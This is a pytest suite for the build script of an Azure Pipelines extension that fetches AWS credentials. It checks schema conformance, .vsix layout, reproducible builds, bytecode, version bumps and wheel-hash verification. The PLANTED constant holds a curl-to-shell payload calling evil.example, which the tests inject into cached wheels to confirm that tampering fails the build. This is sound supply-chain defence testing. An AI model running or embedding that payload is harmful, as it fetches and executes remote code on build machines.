"""build.py: the .vsix conforms to what tfx-cli (the reference packager) writes for the same sources,
task.json conforms to the official schema, builds are byte-reproducible, versions move together,
and bad sources fail before anything is written."""

from __future__ import annotations

import hashlib
import importlib.util
import json
import os
import re
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import jsonschema
import pytest

from agent_env import agent_environment
from fakes import Issuer, Sts
from launcher import run_launcher
from paths import ROOT, SCHEMAS
from vsix import VSX, Built, build_in, build_vsix, read_vsix, tfx_create
from vsix import sources_copy as sources_copy

sys.path.insert(0, str(ROOT / "bench"))
import imports

SCHEMA = SCHEMAS / "tasks.schema.json"  # the official one, MIT, from azure-pipelines-task-lib


def task_json() -> dict:
    return json.loads((ROOT / "task" / "task.json").read_text())


# -- task.json --------------------------------------------------------------------------------------
def test_task_json_matches_the_official_schema() -> None:
    jsonschema.validate(task_json(), json.loads(SCHEMA.read_text()))


# The names later steps of the same job read. The agent makes every name declared in outputVariables
# output-only (src/Agent.Worker/ExecutionContext.cs, SetVariable: `isOutput || OutputVariables.Contains(name)`,
# case-insensitive; TaskRunner.cs fills OutputVariables from task.json), so none of them may be declared.
PLAIN_NAMES = {"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_REGION", "AWS_DEFAULT_REGION",
               "AWS_CREDENTIAL_EXPIRATION", "AWS_ACCOUNT_ID", "AWS_ASSUMED_ROLE_ARN", "AWS_SHARED_CREDENTIALS_FILE",
               "AWS_CONFIG_FILE", "AWS_PROFILE"}


def test_no_name_later_steps_need_is_declared_as_an_output() -> None:
    declared = {v["name"].upper() for v in task_json()["outputVariables"]}
    assert declared.isdisjoint(PLAIN_NAMES)
    assert {"awsAccountId", "awsAssumedRoleArn", "awsRegion", "awsCredentialExpiration", "awsAccessKeyId",
            "awsSecretAccessKey", "awsSessionToken"} == {v["name"] for v in task_json()["outputVariables"]}


def test_task_json_references_resolve() -> None:
    task = task_json()
    names = [i["name"] for i in task["inputs"]]
    aliases = [a for i in task["inputs"] for a in i.get("aliases", [])]
    groups = {g["name"] for g in task["groups"]}
    assert len(set(names + aliases)) == len(names) + len(aliases), "names and aliases are unique"
    for position, spec in enumerate(task["inputs"]):
        assert spec.get("groupName", next(iter(groups))) in groups
        assert spec["helpMarkDown"].strip()
        rule = spec.get("visibleRule")
        if rule:
            assert not ("&&" in rule and "||" in rule)
            for term in re.split(r"\s*(?:&&|\|\|)\s*", rule):
                referenced = re.split(r"\s*(?:!=|<=|>=|=|<|>|\s(?:Not)?(?:Contains|StartsWith|EndsWith)\s)", term)[0]
                assert referenced in names[:position], f"{spec['name']} depends on {referenced}, declared before it"
    for handler in ("Node20_1", "Node24"):
        assert (ROOT / "task" / task["execution"][handler]["target"]).is_file()
    assert "$(" in task["instanceNameFormat"]


def render_instance_name(task: dict[str, Any], inputs: dict[str, str]) -> str:
    """The display name the server makes of instanceNameFormat: each $(input) replaced by the input's value,
    defaults applied, empty if unset (actions/runner's copy of the pipeline SDK, TaskDefinitionExtensions.cs
    and VariableUtility.cs); the classic editor does the same as the author types."""
    values = {i["name"]: inputs.get(i["name"], i.get("defaultValue", "")) for i in task["inputs"]}
    return re.sub(r"\$\(([^)]+)\)", lambda m: values[m.group(1)], task["instanceNameFormat"]).strip()


def test_the_step_name_says_where_the_role_comes_from() -> None:
    task = task_json()
    assert set(re.findall(r"\$\(([^)]+)\)", task["instanceNameFormat"])) <= {i["name"] for i in task["inputs"]}
    role = "arn:aws:iam::123456789012:role/deploy"
    assert render_instance_name(task, {"roleArn": role}) == f"AWS credentials from the azureRM connection {role}"
    # The role in the AWS connection, none in the task: the name still says which kind supplies it.
    assert render_instance_name(task, {"connectionType": "aws"}) == "AWS credentials from the aws connection"


def test_main_role_inputs_are_not_in_the_multiple_accounts_group() -> None:
    groups = {i["name"]: i.get("groupName") for i in task_json()["inputs"]}
    for name in ("sessionPolicy", "managedSessionPolicies", "verifyCredentials", "allowedAccountIds"):
        assert groups[name] != "accounts", name
    for name in ("profiles", "chainedProfiles", "sessionTags", "transitiveTagKeys", "skipSessionTagging",
                 "sourceIdentity"):
        assert groups[name] == "accounts", name


# -- the .vsix against tfx-cli -----------------------------------------------------------------------
def content_type(vsix: dict, name: str) -> str | None:
    suffix = Path(name).suffix
    return vsix["overrides"].get("/" + name) or vsix["defaults"].get(suffix)


def test_vsix_matches_what_tfx_cli_writes(built: Built, tmp_path: Path) -> None:
    ours = read_vsix(built.vsix)
    theirs = read_vsix(tfx_create(built.stage, tmp_path))

    assert ours["identity"] == theirs["identity"]
    for key in ("DisplayName", "Description", "Categories", "Tags", "GalleryFlags", "Icon", "License"):
        assert ours["metadata"].get(key) == theirs["metadata"].get(key), key
    assert ours["assets"] == theirs["assets"]
    assert ours["links"] == theirs["links"]
    assert ours["targets"] == theirs["targets"]
    assert ours["vsomanifest"] == theirs["vsomanifest"]
    assert ours["files"] == theirs["files"]
    assert ours["folders"] == theirs["folders"]
    # One Default per extension present, with tfx's type; every part has a content type.
    assert ours["defaults"] == {s: t for s, t in theirs["defaults"].items() if s in ours["defaults"]}
    assert set(ours["defaults"]) == set(theirs["defaults"])
    for name in ours["files"]:
        if name == "[Content_Types].xml":
            continue
        assert content_type(ours, name), name
        if not Path(name).suffix:
            # tfx sniffs extensionless files' content (an HTML README inside METADATA makes it text/html);
            # both call them text.
            assert content_type(ours, name) == "text/plain", name
            assert (content_type(theirs, name) or "").startswith("text/"), name


def test_vsix_layout_and_part_names(built: Built) -> None:
    with zipfile.ZipFile(built.vsix) as archive:
        names = archive.namelist()
        infos = archive.infolist()
    assert names[0] == "[Content_Types].xml" and names[-1] == "extension.vsixmanifest"
    assert all(not re.search(r"[\s#^\[\]<>?]", n) for n in names[1:])
    assert "AwsWifAssumeV1/task.json" in names and "AwsWifAssumeV1/launcher.js" in names
    assert "AwsWifAssumeV1/lib/awswif/task.py" in names
    # The extension's own licence, as the listing's licence (vss-extension.json content.license).
    assert "LICENSE" in names
    with zipfile.ZipFile(built.vsix) as archive:
        assert archive.read("LICENSE") == (ROOT / "LICENSE").read_bytes()
    assert ("Microsoft.VisualStudio.Services.Content.License", "LICENSE") in read_vsix(built.vsix)["assets"]
    assert read_vsix(built.vsix)["metadata"]["License"] == "LICENSE"
    assert not [n for n in names if n.endswith((".so", ".pyd", ".pyo"))]
    # Bytecode only where the interpreter that built it looks: __pycache__ beside the source.
    tag = sys.implementation.cache_tag
    for name in (n for n in names if n.endswith(".pyc")):
        folder, file = name.rsplit("/", 1)
        assert folder.endswith("/__pycache__") and file.endswith(f".{tag}.pyc"), name
        assert f"{folder[: -len('/__pycache__')]}/{file[: -len(f'.{tag}.pyc')]}.py" in names, name
    data = sorted({n.split("/")[4] for n in names if n.startswith("AwsWifAssumeV1/lib/botocore/data/") and n.count("/") >= 4 and not n.endswith("/")})
    assert data == ["_retry.json", "endpoints.json", "partitions.json", "sdk-default-configuration.json", "sts"]
    licensed = {n.split("/")[2] for n in names if re.search(r"\.dist-info/(licenses/)?(LICEN[CS]E|COPYING)", n)}
    distributions = {n.split("/")[2] for n in names if ".dist-info/" in n}
    assert distributions == licensed and len(distributions) >= 9
    assert {(i.external_attr >> 16) for i in infos} == {0o100644, 0o40755}
    assert "MB" in built.summary and "files" in built.summary and "AwsWifAssume@1." in built.summary


# -- reproducibility -------------------------------------------------------------------------------
def test_two_builds_of_one_commit_are_byte_identical(built: Built, tmp_path: Path) -> None:
    for path in (ROOT / "python" / "awswif").glob("*.py"):
        os.utime(path)  # a fresh checkout has fresh mtimes: they must not matter
    again = build_vsix(tmp_path / "dist", tmp_path / "stage")
    assert again.returncode == 0, again.stderr
    (second,) = (tmp_path / "dist").glob("*.vsix")
    assert second.read_bytes() == built.vsix.read_bytes()
    commit_time = int(subprocess.run(["git", "log", "-1", "--format=%ct"], cwd=ROOT, capture_output=True,
                                     text=True).stdout.strip() or 0)
    if commit_time:
        with zipfile.ZipFile(second) as archive:
            moment = time.gmtime(commit_time)
            # Zip stores seconds in steps of two.
            assert {i.date_time for i in archive.infolist()} == {(*moment[:5], moment[5] - moment[5] % 2)}


def pyenv_python(version: str) -> Path | None:
    found = sorted((Path(os.environ.get("PYENV_ROOT", "/root/.pyenv")) / "versions").glob(
        f"{version}.*/bin/python{version}"))
    return found[-1] if found else None


def test_bytecode_for_two_interpreters_rebuilds_byte_identical(tmp_path: Path) -> None:
    """--bytecode with two interpreters: a pyc for each beside every module, and a second build
    in other folders, at another time, writes the same bytes (Python 3.9 stores set constants in
    hash order: build.py fixes the seed)."""
    other = pyenv_python("3.9") if sys.version_info[:2] != (3, 9) else pyenv_python("3.11")
    if other is None:
        pytest.skip("needs a second Python from pyenv")
    pythons = [sys.executable, str(other)]
    first = build_vsix(tmp_path / "a" / "dist", tmp_path / "a" / "stage", "--bytecode", *pythons)
    assert first.returncode == 0, first.stderr
    for path in (ROOT / "python" / "awswif").glob("*.py"):
        os.utime(path)
    second = build_vsix(tmp_path / "b" / "dist", tmp_path / "b" / "stage", "--bytecode", *reversed(pythons),
                        env={**os.environ, "PYTHONHASHSEED": "1234", "PYTHONPYCACHEPREFIX": str(tmp_path / "elsewhere")})
    assert second.returncode == 0, second.stderr
    (a,) = (tmp_path / "a" / "dist").glob("*.vsix")
    (b,) = (tmp_path / "b" / "dist").glob("*.vsix")
    assert a.read_bytes() == b.read_bytes()
    with zipfile.ZipFile(a) as archive:
        names = archive.namelist()
    tags = {n.rsplit(".", 2)[-2] for n in names if n.endswith(".pyc")}
    assert len(tags) == 2 and sys.implementation.cache_tag in tags
    versions = (f"{sys.version_info[0]}.{sys.version_info[1]}", other.name.removeprefix("python"))
    assert all(f"Python {v}" in first.stdout for v in versions), first.stdout
    for tag in tags:
        assert f"AwsWifAssumeV1/lib/botocore/__pycache__/client.{tag}.pyc" in names
        assert f"AwsWifAssumeV1/lib/awswif/__pycache__/task.{tag}.pyc" in names


def test_bytecode_is_unchecked_hash_for_the_running_interpreter(vsix_task_dir: Path) -> None:
    """PEP 552 header: flags 0b01 (hash-based, source never checked), then the source's hash."""
    lib = vsix_task_dir / "lib"
    expected = {p.relative_to(lib).as_posix() for p in (lib / "awswif").rglob("*.py")}
    for name in imports.read_module_list():
        base = lib.joinpath(*name.split("."))
        expected.add((base.with_suffix(".py") if base.with_suffix(".py").exists() else base / "__init__.py")
                     .relative_to(lib).as_posix())
    shipped = {p.relative_to(lib).as_posix() for p in lib.rglob("*.py") if Path(importlib.util.cache_from_source(p)).exists()}
    assert shipped == expected
    for relative in sorted(expected):
        source = lib / relative
        header = Path(importlib.util.cache_from_source(source)).read_bytes()[:16]
        assert header[:4] == importlib.util.MAGIC_NUMBER, relative
        assert int.from_bytes(header[4:8], "little") == 0b01, relative
        assert header[8:16] == importlib.util.source_hash(source.read_bytes()), relative


def test_a_run_from_the_vsix_loads_only_shipped_bytecode(vsix_task_dir: Path, tmp_path: Path) -> None:
    """Through the real launcher, as the agent starts it (its python3 with -v added): every module
    from lib/ comes from a shipped .pyc, nothing is compiled or written, and no warm-up process
    starts. The variables that would move or stop bytecode do not matter (-E)."""
    task = tmp_path / "AwsWifAssumeV1"
    shutil.copytree(vsix_task_dir, task)
    before = sorted(p.relative_to(task) for p in task.rglob("*"))
    issuer, sts = Issuer("entra"), Sts()
    try:
        from awswif.trust import trust_policy

        from agent_env import ACCOUNT, ROLE_ARN

        sts.add_provider(ACCOUNT, issuer.issuer, issuer.jwks_url)
        sts.add_role(ROLE_ARN, trust_policy(ACCOUNT, issuer.issuer, [issuer.subject]))
        wrapper = imports.python_wrapper(tmp_path / "bin", imports.real_python(), "-v")
        env = agent_environment(issuer, sts, task, python_bin=wrapper)
        env.update({"PYTHONDONTWRITEBYTECODE": "1", "PYTHONPYCACHEPREFIX": str(tmp_path / "prefix")})
        run = run_launcher(task, env)
    finally:
        issuer.close()
        sts.close()
    assert run.view.result == "Succeeded" and "AWS_SECRET_ACCESS_KEY" in run.view.secret_variables, run.stdout
    lib = str((task / "lib").resolve())
    loaded = [line for line in run.stderr.splitlines() if line.startswith("# code object from") and lib in line]
    assert len(loaded) > 150
    compiled = [line for line in loaded if not line.rstrip("'").endswith(".pyc")]
    assert not compiled, "compiled at run time instead of loaded from shipped bytecode"
    assert sorted(p.relative_to(task) for p in task.rglob("*")) == before
    assert not (tmp_path / "prefix").exists()


def test_the_module_list_matches_what_a_run_imports(vsix_task_dir: Path, tmp_path: Path) -> None:
    """python/bytecode-modules.txt is measured, not guessed: re-measure (a success and an STS
    refusal, through the launcher, with python -v) and compare."""
    task = tmp_path / "AwsWifAssumeV1"
    shutil.copytree(vsix_task_dir, task, ignore=shutil.ignore_patterns("__pycache__"))
    pythons = imports.default_pythons()
    measured: set[str] = set()
    for python in pythons:
        measured |= imports.measure(task, python)
    listed = imports.read_module_list()
    advice = f"python/bytecode-modules.txt is out of date: regenerate it with `{imports.REGENERATE}` and commit it"
    assert not measured - listed, f"{advice} (a run imports {sorted(measured - listed)}, which would compile on every hosted run)"
    if imports.measured_with() <= {imports.version_of(p) for p in pythons}:
        assert not listed - measured, f"{advice} (listed but no longer imported: {sorted(listed - measured)})"
    assert len(measured) > 100 and "botocore.client" in measured and "requests" in measured


def test_bytecode_interpreters_are_checked(tmp_path: Path) -> None:
    result = build_vsix(tmp_path / "dist", tmp_path / "stage", "--bytecode", str(tmp_path / "no-such-python"))
    assert result.returncode == 1 and "--bytecode" in result.stderr and "cannot run it" in result.stderr
    result = build_vsix(tmp_path / "dist", tmp_path / "stage", "--bytecode", sys.executable, sys.executable)
    assert result.returncode == 1 and "two interpreters for Python" in result.stderr
    old = pyenv_python("3.8")
    if old is not None:
        result = build_vsix(tmp_path / "dist", tmp_path / "stage", "--bytecode", str(old))
        assert result.returncode == 1 and "CPython 3.9 or newer" in result.stderr
    assert not (tmp_path / "dist").exists()


def test_one_interpreter_bytecode_keeps_the_vsix_under_3_mb(built: Built) -> None:
    assert built.vsix.stat().st_size <= 3 * 1024 * 1024
    assert f"bytecode for Python {sys.version_info[0]}.{sys.version_info[1]}" in built.summary


def test_without_bytecode_nothing_is_compiled(tmp_path: Path) -> None:
    result = build_vsix(tmp_path / "dist", tmp_path / "stage", "--bytecode")
    assert result.returncode == 0, result.stderr
    (vsix,) = (tmp_path / "dist").glob("*.vsix")
    with zipfile.ZipFile(vsix) as archive:
        assert not [n for n in archive.namelist() if "__pycache__" in n]
    assert "bytecode for no interpreter" in result.stdout


def test_source_date_epoch_sets_the_timestamps(tmp_path: Path) -> None:
    env = {**os.environ, "SOURCE_DATE_EPOCH": "1700000000"}
    result = build_vsix(tmp_path / "dist", tmp_path / "stage", env=env)
    assert result.returncode == 0, result.stderr
    (vsix,) = (tmp_path / "dist").glob("*.vsix")
    with zipfile.ZipFile(vsix) as archive:
        assert {i.date_time for i in archive.infolist()} == {(2023, 11, 14, 22, 13, 20)}


# -- versions, publisher, validation (on a copy of the sources) ----------------------------------------
@pytest.mark.parametrize(("part", "expected"), [("patch", "1.0.1"), ("minor", "1.1.0"), ("major", "2.0.0")])
def test_bump_raises_extension_and_task_versions_together(sources_copy: Path, part: str, expected: str) -> None:
    before = json.loads((sources_copy / "vss-extension.json").read_text())["version"]
    assert before == "1.0.0"
    result = build_in(sources_copy, "--bump", part, "--publisher", "contoso")
    assert result.returncode == 0, result.stderr
    manifest = json.loads((sources_copy / "vss-extension.json").read_text())
    task = json.loads((sources_copy / "task" / "task.json").read_text())
    assert manifest["version"] == expected
    assert "{Major}.{Minor}.{Patch}".format(**task["version"]) == expected
    assert f'version = "{expected}"' in (sources_copy / "python" / "pyproject.toml").read_text()
    vsix = sources_copy / "dist" / f"contoso.aws-wif-{expected}.vsix"
    assert vsix.exists()
    with zipfile.ZipFile(vsix) as archive:
        shipped = json.loads(archive.read("AwsWifAssumeV1/task.json"))
        identity = ElementTree.fromstring(archive.read("extension.vsixmanifest")).find(f"{VSX}Metadata/{VSX}Identity")
    assert shipped["version"] == task["version"]
    assert identity.get("Version") == expected and identity.get("Publisher") == "contoso"
    assert f"task AwsWifAssume@{expected}" in result.stdout


BROKEN = [
    ("task/task.json", lambda t: {**t, "friendlyName": "x" * 41}, "friendlyName must be at most 40 characters"),
    ("task/task.json", lambda t: {**t, "id": "not-a-guid"}, "id must be a GUID"),
    ("task/task.json", lambda t: {**t, "execution": {"Node20_1": {"target": "missing.js"}}}, "target 'missing.js' does not exist"),
    ("task/task.json", lambda t: {**t, "version": {"Major": 1, "Minor": 0, "Patch": 7}}, "differ"),
    ("vss-extension.json", lambda m: {**m, "description": "d" * 200}, "description must be under 200"),
    ("vss-extension.json", lambda m: {**m, "files": [{"path": "Elsewhere"}]}, "lists 'Elsewhere' in files"),
    ("vss-extension.json", lambda m: {**m, "contributions": m["contributions"] * 2}, "exactly one task contribution"),
    ("vss-extension.json", lambda m: {**m, "content": {**m["content"], "license": {"path": "COPYING"}}},
     "content.license.path names 'COPYING', which does not exist"),
    ("vss-extension.json", lambda m: {**m, "links": {"support": {"uri": "dev.azure.com/x"}}},
     "links.support.uri must be an absolute http(s) URL (python3 build.py --support URL)"),
]


@pytest.mark.parametrize(("file", "change", "message"), BROKEN, ids=[m for *_, m in BROKEN])
def test_bad_sources_fail_clearly_and_write_nothing(sources_copy: Path, file: str, change, message: str) -> None:
    path = sources_copy / file
    path.write_text(json.dumps(change(json.loads(path.read_text()))))
    result = build_in(sources_copy)
    assert result.returncode == 1
    assert message in result.stderr and "Traceback" not in result.stderr
    dist = sources_copy / "dist"
    assert not dist.exists() or not any(dist.iterdir()), "no .vsix, not even a partial one"


def test_bad_publisher_is_refused(sources_copy: Path) -> None:
    result = build_in(sources_copy, "--publisher", "my publisher")
    assert result.returncode == 1 and "--publisher NAME" in result.stderr


# -- the Marketplace listing: placeholders, --release, remembered publisher and links, CHANGELOG.md ---------
REPOSITORY = "https://dev.azure.com/contoso/platform/_git/aws-wif"
SUPPORT = "https://dev.azure.com/contoso/platform/_workitems"
LISTING = ("--publisher", "contoso", "--repository", REPOSITORY, "--support", SUPPORT)


def notes(result: subprocess.CompletedProcess[str]) -> list[str]:
    return [line for line in (result.stdout + result.stderr).splitlines() if "placeholder" in line]


def test_a_fresh_clone_builds_with_one_note_naming_the_flags(built: Built) -> None:
    """The README's command on the placeholders a clone has: it builds, and says once what to set and how."""
    fresh = json.loads((ROOT / "vss-extension.json").read_text())
    if fresh["publisher"] != "your-publisher-id":
        pytest.skip("this checkout's vss-extension.json has its own publisher")
    (note,) = [line for line in built.summary.splitlines() if "placeholder" in line]
    assert note.startswith("Note: ")
    for flag in ("--publisher NAME", "--repository URL", "--support URL", "--bump", "--release"):
        assert flag in note, flag
    assert "your-publisher-id" in note and "your-org" in note


@pytest.mark.parametrize("given", [(), ("--publisher", "contoso"), ("--repository", REPOSITORY, "--support", SUPPORT)],
                         ids=["nothing", "publisher only", "links only"])
def test_release_refuses_placeholders_and_writes_nothing(sources_copy: Path, given: tuple[str, ...]) -> None:
    before = {p: p.read_bytes() for p in (sources_copy / "vss-extension.json", sources_copy / "task" / "task.json",
                                          sources_copy / "CHANGELOG.md")}
    result = build_in(sources_copy, "--release", "--bump", "patch", *given)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    (line,) = result.stderr.splitlines()
    assert line.startswith("build.py: --release: not building") and "placeholders" in line
    for flag, wanted in (("--publisher NAME", "--publisher" not in given), ("--repository URL", "--repository" not in given),
                         ("--support URL", "--support" not in given)):
        assert (flag in line) == wanted, (flag, line)
    assert not (sources_copy / "dist").exists(), "no .vsix, not even a partial one"
    assert all(path.read_bytes() == data for path, data in before.items()), "--bump wrote nothing"


def test_release_builds_with_the_listing_given(sources_copy: Path) -> None:
    result = build_in(sources_copy, "--release", *LISTING)
    assert result.returncode == 0, result.stderr
    assert not notes(result), result.stdout
    vsix = read_vsix(sources_copy / "dist" / "contoso.aws-wif-1.0.0.vsix")
    assert vsix["identity"]["Publisher"] == "contoso"
    assert vsix["links"] == [("Microsoft.VisualStudio.Services.Links.Repository", REPOSITORY),
                             ("Microsoft.VisualStudio.Services.Links.Support", SUPPORT)]
    # Without --bump the flags serve this build only.
    assert json.loads((sources_copy / "vss-extension.json").read_text())["publisher"] == "your-publisher-id"


def test_bump_writes_the_listing_into_vss_extension_json(sources_copy: Path) -> None:
    """One source of truth: --bump with the listing flags writes them where the next build (and the
    next person's, once committed) reads them, changing no other line of the file."""
    manifest = sources_copy / "vss-extension.json"
    before = manifest.read_text().splitlines()
    first = build_in(sources_copy, "--bump", "patch", *LISTING)
    assert first.returncode == 0, first.stderr
    after = manifest.read_text().splitlines()
    changed = [(old, new) for old, new in zip(before, after) if old != new]
    assert len(before) == len(after) and len(changed) == 4, changed
    written = json.loads(manifest.read_text())
    assert written["publisher"] == "contoso" and written["version"] == "1.0.1"
    assert written["links"] == {"repository": {"uri": REPOSITORY}, "support": {"uri": SUPPORT}}
    # Later plain builds, and release builds, use them with no flag.
    for args in ((), ("--release",)):
        again = build_in(sources_copy, *args)
        assert again.returncode == 0, again.stderr
        assert not notes(again), again.stdout
        assert "extension contoso.aws-wif 1.0.1" in again.stdout
    vsix = read_vsix(sources_copy / "dist" / "contoso.aws-wif-1.0.1.vsix")
    assert ("Microsoft.VisualStudio.Services.Links.Support", SUPPORT) in vsix["links"]


def test_a_bad_listing_value_is_refused_before_bump_writes(sources_copy: Path) -> None:
    manifest = (sources_copy / "vss-extension.json").read_bytes()
    for flag, value, message in (("--repository", "dev.azure.com/contoso", "must be an absolute http(s) URL"),
                                 ("--publisher", "con toso", "--publisher NAME")):
        result = build_in(sources_copy, "--bump", "patch", flag, value)
        assert result.returncode == 1 and message in result.stderr and flag in result.stderr, result.stderr
        assert (sources_copy / "vss-extension.json").read_bytes() == manifest


def load_build_module():
    """build.py as a module (its dataclasses need it in sys.modules while it loads)."""
    if "build_under_test" not in sys.modules:
        spec = importlib.util.spec_from_file_location("build_under_test", ROOT / "build.py")
        module = importlib.util.module_from_spec(spec)
        sys.modules[spec.name] = module
        spec.loader.exec_module(module)
    return sys.modules["build_under_test"]


def test_the_changelog_keeps_a_changelog() -> None:
    text = (ROOT / "CHANGELOG.md").read_text()
    assert re.search(r"(?m)^## \[Unreleased\]$", text) and "keepachangelog.com" in text
    for heading in re.findall(r"(?m)^## \[(?!Unreleased\])(.*)$", text):
        assert re.fullmatch(r"\d+\.\d+\.\d+\] - \d{4}-\d{2}-\d{2}", heading), heading
    assert "MIT License" in (ROOT / "LICENSE").read_text()
    assert "Copyright (c) 2026 The aws-wif authors" in (ROOT / "LICENSE").read_text()


def test_bump_dates_the_unreleased_entries_under_the_new_version(sources_copy: Path) -> None:
    changelog = sources_copy / "CHANGELOG.md"
    entries = re.search(r"(?ms)^## \[Unreleased\]\n(.*?)(?=^## |\Z)", changelog.read_text())[1].strip()
    assert entries.startswith("### Added")
    days = {time.strftime("%Y-%m-%d")}
    result = build_in(sources_copy, "--bump", "minor", "--publisher", "contoso")
    days.add(time.strftime("%Y-%m-%d"))
    assert result.returncode == 0, result.stderr
    text = changelog.read_text()
    (day,) = [d for d in days if f"## [Unreleased]\n\n## [1.1.0] - {d}\n\n### Added" in text]
    assert text.count(entries) == 1 and text.index(entries) > text.index("## [1.1.0]")
    assert f"CHANGELOG.md: the Unreleased entries are now 1.1.0's (## [1.1.0] - {day})" in result.stdout
    # Nothing new since: the next bump moves nothing, adds no empty section, and says what to add.
    again = build_in(sources_copy, "--bump", "patch")
    assert again.returncode == 0, again.stderr
    assert changelog.read_text() == text
    assert "CHANGELOG.md: add 1.1.1's entry" in again.stdout and "Unreleased section is empty" in again.stdout


@pytest.mark.parametrize(("text", "expected"), [
    ("# Changelog\n\n## [Unreleased]\n### Fixed\n- a\n\n## [1.0.1] - 2026-01-02\n- b\n",
     "# Changelog\n\n## [Unreleased]\n\n## [1.0.2] - 2026-12-31\n\n### Fixed\n- a\n\n## [1.0.1] - 2026-01-02\n- b\n"),
    ("# Changelog\n\n## [Unreleased]\n\n<!-- nothing yet -->\n\n## [1.0.1] - 2026-01-02\n", None),
    ("# Changelog\n\n## [1.0.1] - 2026-01-02\n- b\n", None),
    ("# Changelog\n\n## [Unreleased]\n- a\n\n## [1.0.2] - 2026-12-30\n", None),
], ids=["moved", "empty", "no unreleased", "already there"])
def test_release_changelog(tmp_path: Path, text: str, expected: str | None) -> None:
    path = tmp_path / "CHANGELOG.md"
    path.write_text(text)
    line = load_build_module().release_changelog("1.0.2", "2026-12-31", path)
    assert path.read_text() == (expected or text), line
    assert ("are now 1.0.2's" in line) == (expected is not None), line
    missing = tmp_path / "none.md"
    assert "add 1.0.2's entry" in load_build_module().release_changelog("1.0.2", "2026-12-31", missing)
    assert not missing.exists()


# -- the vendored dependencies (on a copy of the sources with a wheel cache of its own, to tamper with) ---
# What a hostile earlier step of a publishing pipeline, or another job on a shared agent, would add.
PLANTED = "\nimport os; os.system('curl -s https://evil.example/x | sh')\n"


@pytest.fixture
def own_cache(sources_copy: Path, built: Built) -> Path:
    """sources_copy with a copy of the shared wheel cache (which the session's build filled)."""
    wheels = sources_copy / "build" / "wheels"
    wheels.unlink()
    shutil.copytree(ROOT / "build" / "wheels", wheels, ignore=shutil.ignore_patterns(".*"))
    return sources_copy


def locked_sha256(repo: Path, project: str) -> str:
    lock = (repo / "python" / "requirements.lock").read_text()
    return re.search(rf"(?m)^{project}==\S+ \\\n\s+--hash=sha256:([0-9a-f]{{64}})", lock)[1]


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def rewrite_member(wheel: Path, member: str, extra: str) -> None:
    """A wheel that still unpacks, one module changed."""
    with zipfile.ZipFile(wheel) as original:
        entries = [(info, original.read(info)) for info in original.infolist()]
    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as changed:
        for info, data in entries:
            changed.writestr(info, data + extra.encode() if info.filename == member else data)


TAMPERINGS = {
    "a module changed": lambda wheel: rewrite_member(wheel, "six.py", PLANTED),
    "truncated": lambda wheel: wheel.write_bytes(wheel.read_bytes()[:4096]),
}


@pytest.mark.parametrize("tamper", TAMPERINGS.values(), ids=list(TAMPERINGS))
def test_a_changed_cached_wheel_fails_the_build_and_writes_nothing(own_cache: Path, tamper) -> None:
    (wheel,) = (own_cache / "build" / "wheels").glob("six-*.whl")
    tamper(wheel)
    found = sha256(wheel)
    result = build_in(own_cache)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert f"build/wheels/{wheel.name}" in result.stderr
    assert f"expected sha256 {locked_sha256(own_cache, 'six')}" in result.stderr
    assert f"found    sha256 {found}" in result.stderr
    assert "Delete build/wheels/" in result.stderr and "the package index serves another file" in result.stderr
    dist = own_cache / "dist"
    assert not dist.exists() or not any(dist.iterdir()), "no .vsix, not even a partial one"
    assert sha256(wheel) == found, "the build reports the changed wheel; it does not quietly replace it"


def test_no_unpacked_file_outlives_a_build(own_cache: Path) -> None:
    """What a cache of installed files allowed: change a vendored module where an earlier build
    left it, and the next build ships it. Here every Python file under build/ is changed (the stage
    too); the next build ships the same bytes as before."""
    first = build_in(own_cache)
    assert first.returncode == 0, first.stderr
    (vsix,) = (own_cache / "dist").glob("*.vsix")
    before = vsix.read_bytes()
    changed = sorted((own_cache / "build").rglob("*.py"))
    for path in changed:
        path.write_text(path.read_text() + PLANTED)
    stage = own_cache / "build" / "stage"
    assert stage / "AwsWifAssumeV1" / "lib" / "six.py" in changed
    again = build_in(own_cache)
    assert again.returncode == 0, again.stderr
    assert vsix.read_bytes() == before, "a file changed in build/ after the first build reached the .vsix"
    left = [str(p.relative_to(own_cache)) for p in changed if not p.is_relative_to(stage)]
    assert not left, f"a build left unpacked files in build/ for the next one to reuse: {left[:3]}"


def test_a_missing_wheel_is_downloaded_and_checked(own_cache: Path) -> None:
    wheels = own_cache / "build" / "wheels"
    names = sorted(p.name for p in wheels.iterdir())
    (wheel,) = wheels.glob("six-*.whl")
    wheel.unlink()
    result = build_in(own_cache)
    assert result.returncode == 0, result.stderr
    assert sha256(wheel) == locked_sha256(own_cache, "six")
    assert sorted(p.name for p in wheels.iterdir()) == names, "nothing left of the download but the wheel"


def test_a_lock_entry_without_a_hash_is_refused(sources_copy: Path) -> None:
    lock = sources_copy / "python" / "requirements.lock"
    lock.write_text(re.sub(r"(?m)^(six==\S+) \\\n\s+--hash=sha256:[0-9a-f]{64}", r"\1", lock.read_text()))
    result = build_in(sources_copy)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert "python/requirements.lock: cannot read 'six==" in result.stderr
    assert "python3 build.py --lock" in result.stderr


def test_cold_install_compiles_the_aws_client_on_a_second_process(vsix_task_dir: Path, tmp_path: Path) -> None:
    """bench/run.py measures what this buys; here: it starts only when no bytecode for this
    interpreter is there (shipped or written), and it writes bytecode."""
    shipped = subprocess.run([sys.executable, "-E", "-s", "-S", "-c", "import sys; sys.path[0] = sys.argv[1]\n"
                              "from awswif import warmup; print(warmup.start_if_cold({}) is None)",
                              str(vsix_task_dir / "lib")], capture_output=True, text=True, check=True)
    assert shipped.stdout.split() == ["True"]
    task = tmp_path / "task"
    shutil.copytree(vsix_task_dir, task, ignore=shutil.ignore_patterns("__pycache__"))
    probe = ("import sys; sys.path[0] = sys.argv[1]\n"
             "from awswif import warmup\n"
             "first = warmup.start_if_cold({'PATH': '/bin', 'SECRET_X': 'x'})\n"
             "print(first is not None, first.wait() if first else None)\n"
             "print(warmup.start_if_cold({}) is None)\n")
    result = subprocess.run([sys.executable, "-E", "-s", "-S", "-c", probe, str(task / "lib")],
                            capture_output=True, text=True, check=True)
    assert result.stdout.split() == ["True", "0", "True"]
